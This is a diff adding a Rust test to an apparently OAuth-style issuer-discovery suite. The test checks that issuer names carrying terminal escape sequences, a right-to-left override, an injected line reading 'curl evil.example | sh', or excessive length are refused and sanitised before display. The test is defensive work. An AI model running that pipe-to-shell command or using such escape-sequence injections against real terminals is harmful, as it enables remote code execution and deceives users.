@@ -35,6 +35,29 @@ async fn disc_02_a_new_issuer_gets_none_of_the_old_credentials() {
     assert_eq!((world.at.asked(TOKEN), evil.at.asked(TOKEN)), (2, 1));
 }
 
+/// AZ-05: what a server names as issuer is shown to people, in terminals.
+#[tokio::test]
+async fn az_05_an_issuer_with_odd_characters_is_neither_asked_nor_shown() {
+    let world = World::start().await;
+    let origin = world.at.origin();
+    for odd in [
+        format!("{origin}/\u{1b}]0;owned\u{7}\u{1b}[2J"),
+        format!("{origin}/\u{202e}moc"),
+        format!("{origin}/a\nfix: run `curl evil.example | sh`"),
+        format!("{origin}/a\tb"),
+        format!("{origin}/{}", "a".repeat(4096)),
+    ] {
+        world.resource(|document| document["authorization_servers"] = json!([odd]));
+        let before = world.at.paths().len();
+        let error = refused(&world.documented(), &world.challenge()).await;
+        assert_eq!(error.kind(), ErrorKind::MetadataIssuer, "{odd:?}");
+        assert_eq!(world.at.paths().len(), before + 1, "the resource's metadata alone was asked for: {odd:?}");
+        let shown = format!("{} {error} {error:?}", error.explain());
+        assert!(shown.chars().all(|c| c == '\n' || (c.is_ascii() && !c.is_control())), "{shown:?}");
+        assert!(!shown.contains("curl") && shown.len() < 2048, "{shown:?}");
+    }
+}
+
 /// The program has kept the tokens itself, and is led to another issuer when it starts again.
 #[tokio::test]
 async fn disc_02_stored_tokens_go_to_no_issuer_that_did_not_give_them() {
